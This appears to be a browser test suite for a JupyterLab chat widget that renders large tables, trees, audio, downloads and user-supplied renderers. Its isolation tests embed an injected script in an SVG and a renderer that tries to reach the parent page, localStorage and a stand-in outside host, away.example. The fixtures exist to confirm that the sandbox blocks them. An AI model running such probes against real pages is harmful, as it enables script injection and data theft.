"""Large and rich results in a real JupyterLab: tables, trees, sounds, files, own renderers, apps as tools."""

from __future__ import annotations

from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, WebSocket, expect

from tests.browser.lab import Chat, Lab, Notebook
from tests.browser.test_results import unfolded

LARGE = '''
import io
import wave

import pandas as pd
from IPython.display import SVG
from chatwidget import ChatWidget, Display, DisplayPart, FilePart, Generate, Return, User, app, function_tool
from chatwidget.models.scripted import ScriptedModel, ToolCall

def readings() -> pd.DataFrame:
    """Look up all readings."""
    rows = 100_000
    notes = ["as usual"] * rows
    notes[77_777] = "the flood of the century"
    times = pd.date_range("1990-01-01", periods=rows, freq="h")
    levels = [(row * 7919 + 12_345) % 100_003 for row in range(rows)]
    return pd.DataFrame({"time": times, "level": levels, "note": notes})

@function_tool(display=Display(result="json"))
def stations() -> dict:
    """List the stations."""
    return {"unit": "metres", "stations": [{"name": f"station {n}", "code": 9_610_000 + n} for n in range(30)]}

def chart() -> SVG:
    """Draw a chart."""
    shape = "<circle cx='60' cy='40' r='30'/><script>parent.hacked = 1</script>"
    return SVG(f"<svg xmlns='http://www.w3.org/2000/svg' width='120' height='80'>{shape}</svg>")

def horn() -> bytes:
    """Blow the horn for half a second."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as file:
        file.setparams((1, 1, 8000, 0, "NONE", ""))
        file.writeframes(bytes(range(0, 250, 25)) * 400)
    return buffer.getvalue()

def log() -> FilePart:
    """Hand over the log."""
    return FilePart.of(b"".join(number.to_bytes(4, "big") for number in range(1_750_000)), name="log.bin")

def locate() -> DisplayPart:
    """Find the harbour."""
    return DisplayPart({"application/x-point+json": {"x": 10.7, "y": 59.9}, "text/plain": "somewhere"})

@app(model=ScriptedModel("La marée basse"))
async def translate(text: str, language: str):
    """Translate a text."""
    yield User(f"{text}, in {language}, please.")
    yield Return((yield Generate()).text.upper())

ARGUMENTS = {"translate": {"text": "Low water", "language": "French"}}

class Caller:
    """Calls the tool that was named, and then is done."""
    name, note = "caller", ""

    async def stream(self, request):
        said = request.messages[-1]
        call = ToolCall(said.text, ARGUMENTS.get(said.text, {}))
        async for delta in ScriptedModel("All done." if said.role == "tool" else call).stream(request):
            yield delta

tools = [readings, stations, chart, horn, log, locate, translate.as_tool(approve=True)]
chat = ChatWidget(model=Caller(), tools=tools, max_height="700px")
chat.renderers["application/x-point+json"] = """
export default { render({ data, el }) { el.textContent = `${data.x} east`; return () => { el.textContent = "" }; } };
"""
chat
'''
# From the first row to the last one, as a person drags a scrollbar.
THROUGH = """
async (grid) => {
  for (let step = 1; step <= 40; step += 1) {
    grid.scrollTop = (grid.scrollHeight * step) / 40;
    await new Promise(requestAnimationFrame);
  }
}
"""
NORTH = '''
chat.renderers["application/x-point+json"] = """
export default { render({ data, el }) { el.innerHTML = `<b>${data.y} north</b>`; } };
"""
'''
CURIOUS = '''
chat.renderers["application/x-point+json"] = """
export default {
  async render({ data, el }) {
    const refused = [];
    try { parent.parent.document.title } catch { refused.push("the page") }
    try { localStorage.length } catch { refused.push("what it stores") }
    await fetch(`https://away.example/?${data.x}`).catch(() => refused.push("the network"));
    el.textContent = refused.join(", ");
  },
};
"""
'''
BROKEN = '''
chat.renderers["application/x-point+json"] = """
export default { render() { throw new Error("There is no map."); } };
"""
'''


@pytest.fixture(scope="module")
def traffic() -> list[int]:
    """The size of each message over a websocket to or from the kernel, in bytes."""
    return []


@pytest.fixture(scope="module")
def notebook(lab: Lab, browser: Browser, traffic: list[int]) -> Iterator[Notebook]:
    def count(payload: str | bytes) -> None:
        traffic.append(len(payload))

    def listen(socket: WebSocket) -> None:
        if "/channels" in socket.url:
            socket.on("framereceived", count)
            socket.on("framesent", count)

    context = browser.new_context(viewport={"width": 1100, "height": 900})
    context.set_default_timeout(30_000)
    page = context.new_page()
    page.on("websocket", listen)
    yield lab.open(page, lab.write("large.ipynb", [LARGE, NORTH, CURIOUS, BROKEN]))
    context.close()


@pytest.fixture
def chat(notebook: Notebook) -> Chat:
    """A chat nobody has talked to yet."""
    return notebook.new_chat()


def called(chat: Chat, tool: str) -> Locator:
    """Have a tool called, and return its card."""
    chat.send(tool)
    expect(chat.root.locator(".cw-user").last).to_contain_text(tool)
    expect(chat.root.locator(".cw-message").last).to_contain_text("All done.")
    return unfolded(chat.root.locator(".cw-tool").last)


def test_a_table_of_100_000_rows_is_sorted_searched_and_scrolled_without_sending_it(
    chat: Chat, traffic: list[int]
) -> None:
    levels = sorted((row * 7919 + 12_345) % 100_003 for row in range(100_000))
    traffic.clear()
    card = called(chat, "readings")
    size, grid = card.locator(".cw-grid-size"), card.locator(".cw-grid-scroller")
    expect(size).to_contain_text("100,000 rows × 3 columns")
    first = card.locator("tr[aria-rowindex='2']")
    level = first.locator("td").nth(1)
    expect(level).to_have_text("12345")

    head = card.get_by_role("columnheader", name="level")
    head.get_by_role("button").click()
    expect(level).to_have_text(str(levels[0]))
    expect(head).to_have_attribute("aria-sort", "ascending")
    head.get_by_role("button").click()
    expect(level).to_have_text(str(levels[-1]))
    grid.evaluate(THROUGH)
    last = card.locator("tr[aria-rowindex='100001']")
    expect(last).to_be_in_viewport()
    expect(last.locator("td").nth(1)).to_have_text(str(levels[0]))

    card.get_by_role("searchbox", name="Find in the table").fill("the century")
    expect(size).to_contain_text("1 of 100,000 rows")
    expect(first).to_contain_text("the flood of the century")
    expect(card.locator("tr[aria-rowindex='3']")).to_have_count(0)
    assert len(traffic) > 10, "nothing was counted: this shows nothing"
    assert sum(traffic) < 400_000


def test_data_unfolds_at_a_press_and_by_the_arrow_keys(chat: Chat) -> None:
    lines = called(chat, "stations").get_by_role("treeitem")
    expect(lines).to_have_count(3)
    lines.filter(has_text="stations").click()
    expect(lines).to_have_count(33)
    lines.filter(has_text="stations").press("ArrowDown")
    expect(lines.nth(3)).to_be_focused()
    lines.nth(3).press("ArrowRight")
    expect(lines).to_have_count(35)
    expect(lines.nth(5)).to_contain_text("9610000")
    lines.nth(3).press("ArrowLeft")
    expect(lines).to_have_count(33)


def test_a_drawing_is_shown_and_a_sound_has_controls(notebook: Notebook, chat: Chat) -> None:
    image = called(chat, "chart").locator("img")
    expect(image).to_have_js_property("naturalWidth", 120)
    assert notebook.page.evaluate("window.hacked") is None
    audio = called(chat, "horn").locator("audio")
    expect(audio).to_have_js_property("duration", 0.5)
    expect(audio).to_have_js_property("controls", True)
    expect(audio).to_have_js_property("paused", True)
    assert audio.evaluate("async audio => { await audio.play(); return !audio.paused }")


def test_a_file_of_several_pieces_is_downloaded_whole(notebook: Notebook, chat: Chat) -> None:
    chip = called(chat, "log").get_by_role("button", name="Download log.bin")
    with notebook.page.expect_download() as waited:
        chip.click()
    download = waited.value
    assert download.suggested_filename == "log.bin"
    data = Path(download.path()).read_bytes()
    wanted = b"".join(number.to_bytes(4, "big") for number in range(1_750_000))
    assert (len(data), sha256(data).hexdigest()) == (7_000_000, sha256(wanted).hexdigest())
    expect(chip).to_have_attribute("aria-busy", "false")


def test_a_display_is_drawn_by_the_users_own_module_and_anew_by_a_changed_one(notebook: Notebook, chat: Chat) -> None:
    card = called(chat, "locate")
    drawn = card.frame_locator("iframe").frame_locator("iframe").locator("#root")
    expect(drawn).to_have_text("10.7 east")
    expect(card.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    notebook.run(2)
    expect(drawn.locator("b")).to_have_text("59.9 north")
    expect(card.locator("iframe")).to_have_count(1)


def test_the_users_own_module_reaches_nothing_and_one_that_fails_leaves_the_plain_text(
    notebook: Notebook, chat: Chat
) -> None:
    card = called(chat, "locate")
    drawn = card.frame_locator("iframe").frame_locator("iframe").locator("#root")
    notebook.run(3)
    expect(drawn).to_have_text("the page, what it stores, the network")
    notebook.run(4)
    expect(card).to_contain_text("The renderer of application/x-point+json failed")
    expect(card).to_contain_text("There is no map.")
    expect(card).to_contain_text("somewhere")


def test_an_app_as_a_tool_runs_where_it_was_allowed_and_gives_its_result(chat: Chat) -> None:
    chat.send("translate")
    ask, card = chat.root.locator(".cw-ask"), chat.root.locator(".cw-tool")
    expect(ask).to_contain_text("Allow translate to run?")
    expect(ask).to_contain_text("French")
    expect(card).to_contain_text("Needs approval")
    inside = chat.root.locator(".cw-scope[aria-label=translate]")
    expect(inside).to_have_count(0)
    ask.get_by_role("button", name="Allow", exact=True).click()
    expect(chat.last).to_contain_text("All done.")
    expect(ask).to_have_count(0)
    expect(unfolded(card)).to_contain_text("LA MARÉE BASSE")
    expect(card).to_contain_text("Allowed by you")
    inside.locator("> button").click()
    expect(inside).to_contain_text("Low water, in French, please.")
    expect(inside.locator(".cw-assistant")).to_contain_text("La marée basse")
